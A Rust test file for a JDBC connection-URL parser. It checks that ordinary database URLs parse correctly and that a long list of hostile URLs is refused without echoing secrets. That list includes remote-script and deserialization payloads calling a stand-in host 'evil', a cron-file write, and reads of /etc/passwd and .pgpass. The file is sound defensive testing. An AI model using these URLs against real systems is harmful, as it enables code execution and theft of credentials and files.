//! What is let through, and what attackers have tried.

use super::*;

fn mysql(url: &str) -> Server {
    match parse(url) {
        Ok(Target::MySql(server)) => server,
        other => panic!("{url}: {other:?}"),
    }
}

fn postgres(url: &str) -> Server {
    match parse(url) {
        Ok(Target::Postgres(server)) => server,
        other => panic!("{url}: {other:?}"),
    }
}

#[test]
fn usual_urls_are_understood() {
    let server = mysql("jdbc:mysql://db.shop:3307/shop?useSSL=false&serverTimezone=UTC&rewriteBatchedStatements=true");
    assert_eq!((server.host.as_str(), server.port, server.database.as_str()), ("db.shop", 3307, "shop"));
    assert_eq!(server.tls, Tls::Disable);
    assert_eq!(mysql("jdbc:mariadb://localhost/shop").port, 3306);
    assert_eq!(mysql("jdbc:mysql://[::1]:3306/a%20b").database, "a b");
    assert_eq!(mysql("jdbc:mysql://[::1]/shop").host, "::1");
    assert_eq!(mysql("jdbc:mysql://h/d?sslMode=VERIFY_IDENTITY").tls, Tls::VerifyFull);
    assert_eq!(mysql("jdbc:mariadb://h/d?sslMode=verify-ca").tls, Tls::VerifyCa);
    assert_eq!(mysql("jdbc:mysql://h/d?useSSL=true&requireSSL=true&verifyServerCertificate=true").tls, Tls::VerifyCa);
    assert_eq!(mysql("jdbc:mysql://h/d?connectTimeout=2500").connect_timeout, Duration::from_millis(2500));

    let server = postgres("jdbc:postgresql://10.0.0.7/shop?currentSchema=sales&ApplicationName=sink&user=ann");
    assert_eq!((server.port, server.schema.as_deref(), server.user.as_deref()), (5432, Some("sales"), Some("ann")));
    assert_eq!(postgres("jdbc:postgresql://h/d?sslmode=require").tls, Tls::Require);
    assert_eq!(postgres("jdbc:postgresql://h/d?ssl=true").tls, Tls::VerifyFull);
    assert!(!postgres("jdbc:postgresql://h/d?prepareThreshold=0").prepared);

    assert_eq!(parse("jdbc:sqlite::memory:").expect("memory"), Target::Sqlite(None));
    assert_eq!(parse("jdbc:sqlite:/data/shop.db").expect("file"), Target::Sqlite(Some("/data/shop.db".into())));
}

#[test]
fn attacks_are_refused_without_an_echo() {
    let attacks = [
        // Other drivers, and code on connecting.
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT",
        "jdbc:derby:memory:x;create=true",
        "jdbc:sqlserver://h;databaseName=d",
        "jdbc:oracle:thin:@//h:1521/d",
        "jdbc:db2://h/d:clientRerouteServerListJNDIName=ldap://evil/x;",
        "mysql://root:s3cret@h/d",
        "JDBC:MYSQL://h/d",
        // Reading files and deserializing through MySQL.
        "jdbc:mysql://h/d?allowLoadLocalInfile=true",
        "jdbc:mysql://h/d?allowUrlInLocalInfile=true",
        "jdbc:mysql://h/d?allowLoadLocalInfileInPath=/",
        "jdbc:mysql://h/d?autoDeserialize=true",
        "jdbc:mysql://h/d?AUTODESERIALIZE=true",
        "jdbc:mysql://h/d?autoDeserial%69ze=true",
        "jdbc:mysql://h/d?useSSL=false&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
        "jdbc:mysql://h/d?statementInterceptors=x",
        "jdbc:mysql://h/d?socketFactory=x",
        "jdbc:mysql://h/d?propertiesTransform=x",
        "jdbc:mysql://h/d?sessionVariables=sql_log_bin=0",
        "jdbc:mysql://h/d?allowMultiQueries=true",
        "jdbc:mysql://h/d;autoDeserialize=true",
        "jdbc:mysql://(host=h,autoDeserialize=true)/d",
        "jdbc:mysql://address=(host=h)(autoDeserialize=true)/d",
        "jdbc:mysql://h1,h2/d",
        "jdbc:mysql:loadbalance://h1,h2/d",
        "jdbc:mysql+srv://h/d",
        "jdbc:mysql://h/d#?autoDeserialize=true",
        "jdbc:mysql://h/d?trustCertificateKeyStoreUrl=file:/etc/passwd",
        "jdbc:mysql://h/d?ssl-ca=/etc/passwd",
        "jdbc:mysql://h/d?socket=/var/run/mysqld.sock",
        "jdbc:mariadb://h/d?serverSslCert=/etc/passwd",
        "jdbc:mariadb://h/d?localSocket=/tmp/x",
        "jdbc:mariadb://h/d?pool=true",
        // Classes and files through PostgreSQL.
        "jdbc:postgresql://h/d?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
        "jdbc:postgresql://h/d?sslfactory=x&sslfactoryarg=y",
        "jdbc:postgresql://h/d?sslhostnameverifier=x",
        "jdbc:postgresql://h/d?sslpasswordcallback=x",
        "jdbc:postgresql://h/d?authenticationPluginClassName=x",
        "jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/etc/cron.d/x",
        "jdbc:postgresql://h/d?jaasApplicationName=x",
        "jdbc:postgresql://h/d?options=-c%20session_preload_libraries=x",
        "jdbc:postgresql://h/d?sslcert=/etc/passwd",
        "jdbc:postgresql://h/d?sslkey=/etc/passwd",
        "jdbc:postgresql://h/d?sslrootcert=/etc/passwd",
        "jdbc:postgresql://h/d?passfile=/root/.pgpass",
        "jdbc:postgresql://h/d?service=x",
        "jdbc:postgresql://h/d?host=/var/run/postgresql",
        "jdbc:postgresql://h/d?hostaddr=10.0.0.1",
        "jdbc:postgresql://h/d?currentSchema=x%20-c%20a=b",
        "jdbc:postgresql://%2Fvar%2Frun%2Fpostgresql/d",
        "jdbc:postgresql:///d",
        "jdbc:postgresql:d",
        "jdbc:postgresql://h1:1,h2:2/d?targetServerType=any",
        // Files through SQLite.
        "jdbc:sqlite:file:/etc/x?mode=rwc",
        "jdbc:sqlite:/data/x.db?enable_load_extension=true",
        "jdbc:sqlite:/data/../etc/x",
        "jdbc:sqlite:/data/%2e%2e/etc/x",
        "jdbc:sqlite:x.db",
        "jdbc:sqlite::resource:http://evil/x.db",
        "jdbc:sqlite:",
        // Control characters.
        "jdbc:mysql://h/d?user=a%0ab",
        "jdbc:mysql://h/d\n?x",
        "jdbc:mysql://h/%00",
        "jdbc:mysql://h/d?user=%zz",
        "jdbc:mysql://h/d?user=%+1",
    ];
    for attack in attacks {
        let error = parse(attack).expect_err(attack);
        assert_eq!(error.kind(), millrace_api::ErrorKind::Config, "{attack}");
        let message = error.message();
        assert!(message.starts_with("Invalid value for configuration connection.url: "), "{message}");
        assert!(message.contains("; "), "no fix: {message}");
        for secret in ["s3cret", "evil", "/etc/", "com.mysql", "springframework"] {
            assert!(!message.contains(secret), "{attack}: {message}");
        }
    }
}

#[test]
fn passwords_are_sent_where_they_are_masked() {
    for url in [
        "jdbc:mysql://h/d?password=s3cret",
        "jdbc:postgresql://h/d?user=a&PASSWORD=s3cret",
        "jdbc:mysql://a:s3cret@h/d",
    ] {
        let message = parse(url).expect_err(url).message().to_owned();
        assert!(message.contains("connection.password") && !message.contains("s3cret"), "{message}");
    }
}
